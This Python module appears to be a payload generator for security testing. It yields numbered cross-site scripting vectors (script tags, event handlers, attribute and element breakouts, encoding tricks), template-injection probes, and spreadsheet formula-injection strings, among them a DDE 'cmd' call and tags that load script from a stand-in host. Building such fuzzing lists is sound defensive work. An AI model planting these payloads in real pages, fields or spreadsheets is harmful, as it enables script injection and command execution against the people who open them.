"""Hostile texts of many families, each with a number by which it is found again, and short enough for a cell."""

from collections.abc import Iterator

# Tags that run something by themselves, by an event, by an address; breaking out of an attribute, of a text element,
# of a comment, of a script, of JSON; templates; disguises that browsers or filters undo.
_TAGS = (
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=//x.y/{n}></script>",
    "<script/x>alert({n})</script>",
    "<<script>alert({n});//<</script>",
    "<img src=x onerror=alert({n})>",
    "<img/src=x/onerror=alert({n})>",
    '<img """><script>alert({n})</script>">',
    "<svg onload=alert({n})>",
    "<svg><script>alert&#40;{n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x>",
    "<svg><a xlink:href=javascript:alert({n})><text>x",
    "<math><mi xlink:href=data:x,{n}>",
    "<body onload=alert({n})>",
    "<iframe src=javascript:alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<object data=javascript:alert({n})>",
    "<embed src=//x.y/{n}>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})>",
    "<audio src=x onerror=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<button formaction=javascript:alert({n})>x",
    "<form action=//x.y/{n}><input name=code>",
    "<select autofocus onfocus=alert({n})>",
    "<textarea autofocus onfocus=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<base href=//x.y/{n}/>",
    "<meta http-equiv=refresh content=0;//x.y/{n}>",
    "<link rel=stylesheet href=//x.y/{n}>",
    "<style>@import'//x.y/{n}'</style>",
    "<a href=javascript:alert({n})>x</a>",
    "<a href='java&#9;script:alert({n})'>x</a>",
    "<x onclick=alert({n}) style=position:fixed>",
    "<template><script>alert({n})</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
)
_OUTS = (
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    '" onmouseover=alert({n}) x="',
    "' onmouseover=alert({n}) x='",
    "` onmouseover=alert({n}) x=`",
    '" autofocus onfocus=alert({n}) "',
    '"/><svg/onload=alert({n})>',
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "</option></select><img src=x onerror=alert({n})>",
    "</td></tr></table><img src=x onerror=alert({n})>",
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script>",
    "';alert({n});//",
    '";alert({n});//',
    "\\';alert({n});//",
    "\\u003cscript\\u003ealert({n})",
    "{{{{{n}*7}}}}",
    "{{% if {n} %}}",
    "${{alert({n})}}",
    "#{{{n}*7}}",
    "%(x{n})s %s {{0}}",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "＜script＞alert({n})＜/script＞",
    "\uff1cimg src=x onerror=alert({n})\uff1e",
    "+ADw-script+AD4-alert({n})",
    "\u2028<img src=x onerror=alert({n})>",
    "\u202e<img src=x onerror=alert({n})>",
    "<\u200bscript>alert({n})</script>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
)
FORMULAS = tuple(
    head + body
    for head in (
        "\t",
        "\r",
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u3000=",
        "\u00a0@",
        "﹦",
    )
    for body in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.y")', "SUM(A1)")
)


def payloads(*, longest: int, start: int) -> Iterator[str]:
    """Yield hostile texts without end, each with a number of its own from `start` on, none longer than `longest`."""
    number = start
    while True:
        for family in (*_TAGS, *_OUTS):
            text = family.format(n=number)
            if len(text) <= longest:
                yield text
                number += 1
